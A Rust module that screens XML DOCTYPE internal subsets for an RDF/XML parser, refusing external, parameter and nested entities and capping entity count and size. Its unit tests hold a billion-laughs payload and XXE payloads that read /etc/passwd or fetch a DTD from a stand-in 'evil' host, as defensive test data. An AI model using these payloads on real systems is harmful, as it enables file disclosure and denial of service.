//! The DOCTYPE guard: the entities of an internal subset read (parameter, external and nested
//! entities refused, sizes capped) so that we substitute them ourselves and the RDF/XML parser
//! never sees a DOCTYPE.

use std::collections::HashMap;

use super::XmlError;

/// Most entities a DOCTYPE may declare.
const MAX_ENTITIES: usize = 100;
/// Longest entity replacement text.
const MAX_ENTITY_LEN: usize = 4096;

pub(super) fn has_doctype(xml: &str) -> bool {
    let bytes = xml.as_bytes();
    bytes
        .windows(9)
        .any(|w| w[0] == b'<' && w[1] == b'!' && w[2..].eq_ignore_ascii_case(b"DOCTYPE"))
}

/// Entities of a DOCTYPE's internal subset; refuses parameter, external and nested entities.
pub(super) fn parse_internal_subset(doctype: &str) -> Result<HashMap<&str, String>, XmlError> {
    let mut entities = HashMap::new();
    let Some(open) = doctype.find('[') else {
        return Ok(entities);
    };
    let subset = &doctype[open + 1..];
    let mut rest = subset;
    while let Some(i) = rest.find("<!") {
        rest = &rest[i..];
        if rest.starts_with("<!--") {
            let end = rest.find("-->").map_or(rest.len(), |e| e + 3);
            rest = &rest[end..];
            continue;
        }
        if !rest.starts_with("<!ENTITY") {
            // ELEMENT / ATTLIST / NOTATION: ignored (the RDF/XML parser ignores them too).
            rest = &rest[2..];
            continue;
        }
        let decl = rest["<!ENTITY".len()..].trim_start();
        if decl.starts_with('%') {
            return Err(XmlError::UnsafeDoctype(
                "parameter entities are not allowed".into(),
            ));
        }
        let name_end = decl
            .find(|c: char| c.is_whitespace())
            .ok_or_else(|| XmlError::UnsafeDoctype("malformed ENTITY declaration".into()))?;
        let name = &decl[..name_end];
        let after = decl[name_end..].trim_start();
        let quote = after.chars().next().unwrap_or(' ');
        if quote != '"' && quote != '\'' {
            return Err(XmlError::UnsafeDoctype(format!(
                "external entity {name:?} is not allowed"
            )));
        }
        let value_end = after[1..]
            .find(quote)
            .ok_or_else(|| XmlError::UnsafeDoctype("unterminated ENTITY value".into()))?;
        let value = &after[1..1 + value_end];
        if value.len() > MAX_ENTITY_LEN {
            return Err(XmlError::UnsafeDoctype(format!(
                "entity {name:?} longer than {MAX_ENTITY_LEN} bytes"
            )));
        }
        if value.contains('%') && value.contains(';') {
            return Err(XmlError::UnsafeDoctype(format!(
                "entity {name:?} references a parameter entity"
            )));
        }
        // Only character references and the predefined entities may appear in a value.
        let mut v = value;
        while let Some(amp) = v.find('&') {
            let tail = &v[amp + 1..];
            let end = tail.find(';').unwrap_or(tail.len());
            let reference = &tail[..end];
            if !(reference.starts_with('#')
                || matches!(reference, "amp" | "lt" | "gt" | "quot" | "apos"))
            {
                return Err(XmlError::UnsafeDoctype(format!(
                    "entity {name:?} references entity {reference:?} (nested entities are not allowed)"
                )));
            }
            v = &tail[end.min(tail.len())..];
        }
        if entities.len() >= MAX_ENTITIES {
            return Err(XmlError::UnsafeDoctype(format!(
                "more than {MAX_ENTITIES} entities"
            )));
        }
        let escaped = value
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        entities.entry(name).or_insert(escaped);
        let consumed = rest.len() - after.len() + 1 + value_end + 1;
        rest = &rest[consumed.min(rest.len())..];
    }
    Ok(entities)
}

/// Copy `text`, replacing references to the declared entities by their value.
pub(super) fn substitute(text: &str, entities: &HashMap<&str, String>, out: &mut String) {
    if entities.is_empty() || !text.contains('&') {
        out.push_str(text);
        return;
    }
    let mut rest = text;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let tail = &rest[amp + 1..];
        match tail.find(';') {
            Some(end) if entities.contains_key(&tail[..end]) => {
                out.push_str(&entities[&tail[..end]]);
                rest = &tail[end + 1..];
            }
            _ => {
                out.push('&');
                rest = tail;
            }
        }
    }
    out.push_str(rest);
}

#[cfg(test)]
mod tests {
    use crate::rdf::xml::{prepare_rdfxml, XmlError};

    #[test]
    fn billion_laughs_is_refused() {
        let xml = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&lol2;</rdf:RDF>"#;
        let err = prepare_rdfxml(xml, false, &mut Vec::new(), &mut Vec::new()).unwrap_err();
        assert!(matches!(err, XmlError::UnsafeDoctype(_)), "{err}");
    }

    #[test]
    fn external_entities_are_refused() {
        for xml in [
            r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><r/>"#,
        ] {
            assert!(
                prepare_rdfxml(xml, false, &mut Vec::new(), &mut Vec::new()).is_err(),
                "{xml}"
            );
        }
    }
}
